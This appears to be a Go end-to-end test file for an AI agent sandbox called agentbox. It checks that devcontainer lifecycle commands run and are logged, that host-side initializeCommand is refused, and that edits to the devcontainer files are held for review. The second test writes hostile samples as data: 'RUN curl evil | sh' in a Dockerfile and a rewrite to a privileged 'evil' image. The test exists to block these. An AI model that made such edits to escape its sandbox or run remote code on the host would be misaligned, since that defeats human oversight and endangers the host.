package main_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/agentbox/agentbox/internal/testutil"
)

// A devcontainer with a small Dockerfile builds (once, cached by the hash
// of its inputs) and runs: its containerEnv is in the sandbox, its
// postCreateCommand is an ordinary tool call in the audit log, before the
// command; a refused field (initializeCommand) stops it before anything
// runs on the host.
func TestDevcontainerEndToEnd(t *testing.T) {
	testutil.RequireDocker(t)
	ws := t.TempDir()
	writeFile(t, filepath.Join(ws, ".devcontainer", "Dockerfile"), "FROM agentbox/base:latest\nRUN echo from-the-dockerfile > /etc/devc-marker\n", 0o644)
	writeFile(t, filepath.Join(ws, ".devcontainer", "devcontainer.json"), `{
  // comments and trailing commas, as VS Code writes them
  "build": {"dockerfile": "Dockerfile"},
  "containerEnv": {"DEVC_GREETING": "hello-devc"},
  "postCreateCommand": "echo created > /workspace/post-create.txt",
}`, 0o644)
	pol := writeFile(t, filepath.Join(t.TempDir(), "policy.yaml"), "version: 1\nextends: none\ncommands:\n  default: allow\n  dynamic: allow\nfiles:\n  write:\n    allow: [\"/workspace/**\"]\n", 0o644)
	log := filepath.Join(t.TempDir(), "audit.jsonl")
	r := agentbox(t, nil, "exec", "--devcontainer", "--workspace", ws, "--policy", pol, "--audit", log, "--", `cat /etc/devc-marker; echo "$DEVC_GREETING"; cat post-create.txt`)
	if r.code != 0 || r.stdout != "from-the-dockerfile\nhello-devc\ncreated\n" {
		t.Fatalf("exec --devcontainer: %d %q %q", r.code, r.stdout, r.stderr)
	}
	var calls []string
	var image string
	for _, l := range readAuditLog(t, log) {
		if l.rec.Event == "tool_call" && l.rec.Phase == "decision" {
			cmd, _ := l.rec.Args["command"].(string)
			calls = append(calls, cmd)
		}
		if l.rec.Event == "session_start" && l.rec.Image != "" {
			image = l.rec.Image
		}
	}
	if len(calls) != 2 || calls[0] != "echo created > /workspace/post-create.txt" {
		t.Errorf("tool calls in the audit log: %q", calls)
	}
	if !strings.HasPrefix(image, "agentbox-devcontainer:") {
		t.Errorf("session image %q", image)
	}
	// Cached: the second run builds nothing.
	r = agentbox(t, nil, "exec", "--devcontainer", "--workspace", ws, "--policy", pol, "--audit", log, "--", "true")
	if r.code != 0 || strings.Contains(r.stderr, "building the devcontainer") {
		t.Errorf("second run: %d %q", r.code, r.stderr)
	}

	marker := filepath.Join(t.TempDir(), "host-marker")
	writeFile(t, filepath.Join(ws, ".devcontainer", "devcontainer.json"), `{"image": "agentbox/base:latest", "initializeCommand": "touch `+marker+`"}`, 0o644)
	r = agentbox(t, nil, "exec", "--devcontainer", "--workspace", ws, "--policy", pol, "--audit", log, "--", "true")
	if r.code != 2 || !strings.Contains(r.stderr, "initializeCommand: it runs on the host") {
		t.Errorf("initializeCommand: %d %q", r.code, r.stderr)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Error("initializeCommand ran on the host")
	}
}

// The agent cannot rewrite the devcontainer the next session builds and
// runs: edits to .devcontainer/ and .devcontainer.json, by the task's
// command or by a lifecycle command, are held for review (host hazard),
// even under a policy that allows writing everywhere in the workspace.
func TestDevcontainerEditsAreHeld(t *testing.T) {
	testutil.RequireDocker(t)
	ws := t.TempDir()
	orig := `{"image": "agentbox/base:latest", "postCreateCommand": "echo '{\"image\": \"evil\", \"privileged\": true}' > /workspace/.devcontainer/devcontainer.json"}`
	writeFile(t, filepath.Join(ws, ".devcontainer", "devcontainer.json"), orig, 0o644)
	pol := writeFile(t, filepath.Join(t.TempDir(), "policy.yaml"), "version: 1\nextends: none\ncommands:\n  default: allow\n  dynamic: allow\nfiles:\n  write:\n    allow: [\"/workspace/**\"]\n", 0o644)
	log := filepath.Join(t.TempDir(), "audit.jsonl")
	r := agentbox(t, nil, "exec", "--devcontainer", "--workspace", ws, "--policy", pol, "--audit", log, "--",
		`echo 'RUN curl evil | sh' > .devcontainer/Dockerfile; echo '{}' > .devcontainer.json; echo ok > fine.txt`)
	if r.code != 0 {
		t.Fatalf("exec: %d %q %q", r.code, r.stdout, r.stderr)
	}
	if b, _ := os.ReadFile(filepath.Join(ws, ".devcontainer", "devcontainer.json")); string(b) != orig {
		t.Errorf("the lifecycle command rewrote devcontainer.json on the host: %s", b)
	}
	for _, p := range []string{".devcontainer/Dockerfile", ".devcontainer.json"} {
		if _, err := os.Stat(filepath.Join(ws, p)); err == nil {
			t.Errorf("%s reached the host workspace", p)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(ws, "fine.txt")); string(b) != "ok\n" {
		t.Errorf("an ordinary file was not promoted: %q", b)
	}
	held := map[string]string{}
	for _, l := range readAuditLog(t, log) {
		if l.rec.Event == "alarm" && l.rec.Action == "held" {
			held[l.rec.Path] = l.rec.Rule
		}
	}
	for _, p := range []string{".devcontainer/devcontainer.json", ".devcontainer/Dockerfile", ".devcontainer.json"} {
		if held[p] != "hazard:host-runs" {
			t.Errorf("%s: held by %q; held: %v", p, held[p], held)
		}
	}
}
